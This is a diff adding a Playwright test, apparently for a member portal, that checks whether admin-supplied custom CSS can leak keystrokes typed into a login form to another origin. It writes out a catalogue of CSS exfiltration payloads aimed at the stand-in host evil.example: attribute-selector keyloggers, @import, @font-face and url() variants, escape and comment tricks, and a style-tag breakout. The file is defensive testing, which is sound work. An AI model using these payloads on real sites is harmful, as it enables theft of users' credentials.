@@ -1,0 +1,86 @@
+// Custom CSS cannot make the browser fetch anything from another origin (issue 10 item 1): the
+// exfiltration routes CSS offers, injected through the demo backend's GENERAL.custom_css, while a
+// member types into the login form; the allowed part still styles the page.
+import type { Page, Request } from '@playwright/test';
+import { DEMO_PASSWORD, accounts, expect, test, type DemoBackend } from './fixtures';
+
+/** Another origin: any request to it is a leak (the test aborts it before it leaves). */
+const LEAK = 'http://evil.example/k';
+
+/** One keylogger rule per character the member types, and every other route to a request. */
+function hostileCss(typed: string): string {
+  const keylogger = [...new Set(typed)].map((c) => {
+    const char = JSON.stringify(c);
+    return [
+      `input[value$=${char}]{background-image:image-set(var(--k) 1x)}`,
+      `input[value$=${char}]{background-image:-webkit-image-set(var(--k) 1x)}`,
+      `input[value$=${char}]{background:url(${LEAK}?${encodeURIComponent(c)})}`,
+      `input[v\\61lue$=${char}]{background:\\75 rl(${LEAK}?e${encodeURIComponent(c)})}`,
+    ].join('\n');
+  });
+  return [
+    // Allowed: a custom property and a border through var().
+    ':root{--probe:rgb(1, 2, 3)} body{border-top:7px solid var(--probe)}',
+    `:root{--k:"${LEAK}";--u:url(${LEAK}?var)}`,
+    ...keylogger,
+    `body{background-image:var(--u)}`,
+    `body{background-image:var(--missing, url(${LEAK}?fallback))}`,
+    `body{background-image:var(--missing, image-set("${LEAK}?fallback-set" 1x))}`,
+    `@import url(${LEAK}?import);`,
+    `@im/**/port "${LEAK}?import2";`,
+    `@font-face{font-family:leak;src:url(${LEAK}?font)} body{font-family:leak}`,
+    `body{cursor:url(${LEAK}?cursor), auto}`,
+    `main{mask-image:url(${LEAK}?mask);-webkit-mask-image:url(${LEAK}?wmask)}`,
+    `header{border-image:url(${LEAK}?border) 30 round}`,
+    `li,ul{list-style-image:url(${LEAK}?list)}`,
+    `label::after{content:url(${LEAK}?content)}`,
+    `form{background:u\\rl(${LEAK}?esc1)}`,
+    `form{background:u/**/rl(${LEAK}?comment)}`,
+    `form{background:image("${LEAK}?image")}`,
+    `a{}</style><img src="${LEAK}?breakout"><style>`,
+  ].join('\n');
+}
+
+async function injectCustomCss(page: Page, demo: DemoBackend, css: string) {
+  const channel = (await (await page.request.get('/__demo/state')).json()) as { channel_id: string };
+  const answer = (await (await page.request.get('/wl/v1/platform/config/section/GENERAL', { headers: { 'X-Channel-Id': channel.channel_id } })).json()) as {
+    data: Record<string, unknown>;
+  };
+  await demo.fault({ path: 'platform/config/section/GENERAL', json: { ...answer, data: { ...answer.data, custom_css: css } }, times: 50 });
+}
+
+function offOriginRequests(page: Page, origin: string): string[] {
+  const leaks: string[] = [];
+  const record = (request: Request) => {
+    const url = new URL(request.url());
+    if (/^(?:https?|wss?|ftp):$/.test(url.protocol) && url.origin !== origin) leaks.push(request.url());
+  };
+  page.context().on('request', record);
+  page.context().on('requestfailed', record);
+  return leaks;
+}
+
+test('custom CSS cannot send what a member types anywhere, and still styles the page', async ({ page, demo, baseURL }) => {
+  const origin = new URL(baseURL!).origin;
+  const email = accounts.verified.email;
+  await injectCustomCss(page, demo, hostileCss(`${email}${DEMO_PASSWORD}`));
+  const leaks = offOriginRequests(page, origin);
+  await page.context().route((url) => url.origin !== origin && url.protocol.startsWith('http'), (route) => route.abort());
+
+  await page.goto('/pass-login');
+  const css = page.locator('style#portal-custom-css');
+  await expect(css).toHaveCount(1);
+
+  await page.getByLabel(/e-?mail/i).pressSequentially(email);
+  await page.getByLabel(/password/i).first().pressSequentially(DEMO_PASSWORD);
+  await page.getByRole('button', { name: /log in/i }).click();
+  await expect(page.getByText('1,250 points')).toBeVisible();
+  await page.waitForLoadState('networkidle');
+
+  expect(leaks).toEqual([]);
+  // The allowed rule applies: the custom property reaches the border.
+  await expect(page.locator('body')).toHaveCSS('border-top-color', 'rgb(1, 2, 3)');
+  await expect(page.locator('body')).toHaveCSS('border-top-width', '7px');
+  const text = (await css.textContent()) ?? '';
+  expect(text).not.toMatch(/@import|@font-face|url\(|image-set|\[value/i);
+});
